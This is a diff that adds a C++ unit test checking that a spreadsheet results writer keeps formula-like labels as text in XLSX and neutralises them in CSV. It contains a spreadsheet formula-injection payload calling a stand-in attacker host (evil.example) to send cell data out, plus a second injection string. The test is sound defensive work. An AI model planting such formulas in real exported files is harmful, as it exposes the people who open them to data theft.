@@ -209,6 +209,39 @@ TEST_F(ResultsXlsxWriterTest, CsvHasTheSameValues)
     EXPECT_NE(text.find(",36000,"), std::string::npos);
 }
 
+// A label that looks like a formula is a text cell in the workbook (a shared string),
+// never a formula, and reads back exactly as typed; the same file written as CSV carries
+// it neutralised (OWASP's leading quote, quoted).
+TEST_F(ResultsXlsxWriterTest, FormulaLikeLabelsStayText)
+{
+    const std::string hyperlink = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
+    m_scenario.name = "@SUM(1+1)";
+    m_scenario.options[2].label = hyperlink;
+    m_evaluation = ScenarioEvaluator::evaluate(m_scenario);
+    const QString file = path(QStringLiteral("results.xlsx"));
+    ASSERT_TRUE(ResultsFileWriter::write(workbook(), file).ok());
+    const std::string strings = unescapeXml(unzip(file, "xl/sharedStrings.xml"));
+    EXPECT_NE(strings.find(">" + hyperlink + "<"), std::string::npos) << strings;
+    EXPECT_NE(strings.find(">@SUM(1+1)<"), std::string::npos);
+    for (int sheet = 1; sheet <= 3; ++sheet) {
+        for (const auto &[address, formula] :
+             formulas(unzip(file, "xl/worksheets/sheet" + std::to_string(sheet) + ".xml"))) {
+            EXPECT_EQ(formula.formula.find("HYPERLINK"), std::string::npos) << address;
+            EXPECT_EQ(formula.formula.find("SUM(1+1)"), std::string::npos) << address;
+        }
+    }
+
+    const QString csvFile = path(QStringLiteral("results.csv"));
+    ASSERT_TRUE(ResultsFileWriter::write(workbook(), csvFile).ok());
+    QFile csv(csvFile);
+    ASSERT_TRUE(csv.open(QIODevice::ReadOnly));
+    const std::string text = csv.readAll().toStdString();
+    EXPECT_NE(text.find(R"x(,"'=HYPERLINK(""http://evil.example/""&A1,""click"")")x"),
+              std::string::npos)
+        << text;
+    EXPECT_NE(text.find(R"x(,"'@SUM(1+1)")x"), std::string::npos);
+}
+
 TEST_F(ResultsXlsxWriterTest, ReplacesAnExistingFileOnlyWhenTheNewOneIsComplete)
 {
     const QString file = path(QStringLiteral("results.xlsx"));
